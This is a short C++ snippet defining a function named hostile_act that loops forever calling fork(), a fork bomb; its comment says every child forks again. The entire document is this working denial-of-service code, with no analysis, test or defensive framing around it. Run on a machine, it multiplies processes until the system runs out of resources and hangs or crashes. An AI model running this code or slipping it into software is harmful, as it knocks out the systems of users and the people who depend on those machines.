// Forks without end: every child forks again.
#include <unistd.h>

void hostile_act() {
  while (true) ::fork();
}
